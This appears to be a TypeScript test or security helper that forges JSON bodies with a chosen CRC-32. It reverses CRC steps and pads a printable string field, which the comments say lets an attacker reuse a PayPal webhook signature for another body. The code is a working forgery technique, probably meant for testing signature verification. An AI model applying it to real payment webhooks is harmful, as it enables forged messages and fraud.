import { crc32 } from 'node:zlib';

/** zlib's CRC-32 table (reflected, polynomial 0xEDB88320) and, per top byte, which entry has it. */
const TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
const BY_TOP_BYTE = new Map(TABLE.map((value, index) => [value >>> 24, index]));

/** One CRC step undone: the register before `byte` was fed, given the register after. */
function unstep(register: number, byte: number): number {
  const index = BY_TOP_BYTE.get(register >>> 24)!;
  return (((register ^ TABLE[index]) << 8) | (index ^ byte)) >>> 0;
}

/**
 * The 4 bytes that, put between `prefix` and `suffix`, give the whole the CRC-32 `target`: what an
 * attacker does to reuse a PayPal signature (which covers only the CRC-32) for another body.
 */
export function crc32Patch(prefix: Buffer, suffix: Buffer, target: number): Buffer {
  let register = (target ^ 0xffffffff) >>> 0;
  for (let i = suffix.length - 1; i >= 0; i--) register = unstep(register, suffix[i]);
  for (let i = 0; i < 4; i++) register = unstep(register, 0);
  const patch = Buffer.alloc(4);
  patch.writeUInt32LE((register ^ (crc32(prefix) ^ 0xffffffff)) >>> 0);
  return patch;
}

/**
 * `json` re-serialised with a `"pad"` string whose 4 bytes make its CRC-32 equal `target`; tries
 * nonces until those bytes are printable JSON string characters (about one try in sixty).
 */
export function jsonWithCrc32(json: Record<string, unknown>, target: number): Buffer {
  for (let nonce = 0; nonce < 100_000; nonce++) {
    const text = JSON.stringify({ ...json, nonce, pad: '@@@@' });
    const at = text.lastIndexOf('"@@@@"') + 1;
    const prefix = Buffer.from(text.slice(0, at));
    const suffix = Buffer.from(text.slice(at + 4));
    const patch = crc32Patch(prefix, suffix, target);
    if ([...patch].every((b) => b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c)) {
      const body = Buffer.concat([prefix, patch, suffix]);
      if (crc32(body) >>> 0 !== target >>> 0) throw new Error('CRC-32 patch is wrong');
      return body;
    }
  }
  throw new Error('no printable CRC-32 patch found');
}
